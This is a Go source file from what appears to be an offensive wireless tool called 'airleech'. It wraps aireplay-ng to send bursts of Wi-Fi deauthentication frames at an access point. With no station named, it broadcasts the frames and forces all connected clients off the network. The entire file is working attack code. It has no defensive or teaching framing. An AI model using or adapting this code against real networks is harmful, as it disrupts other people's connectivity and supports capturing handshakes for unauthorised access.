package aircrack

import (
	"context"
	"strconv"

	"github.com/0x6d61/airleech/internal/engine"
	"github.com/0x6d61/airleech/internal/proc"
)

// defaultBurstFrames is how many deauth frames one burst carries.
const defaultBurstFrames = 10

// Aireplay issues deauthentication bursts via aireplay-ng.
type Aireplay struct {
	// Frames per burst; defaults to defaultBurstFrames when zero.
	Frames int
}

var _ engine.Deauther = Aireplay{}

// Burst sends one deauth burst against the BSSID. With an empty station
// the burst goes to broadcast, forcing all clients of the AP to
// reassociate; otherwise only the named station is targeted.
func (a Aireplay) Burst(ctx context.Context, iface, bssid, station string) error {
	frames := a.Frames
	if frames <= 0 {
		frames = defaultBurstFrames
	}

	args := []string{"--deauth", strconv.Itoa(frames), "-a", bssid}
	if station != "" {
		args = append(args, "-c", station)
	}
	args = append(args, iface)

	// aireplay-ng exits non-zero on transient injection failures; a missed
	// burst is harmless, so only spawn-level failures matter here.
	_, err := proc.Run(ctx, "aireplay-ng", args...)
	return err
}
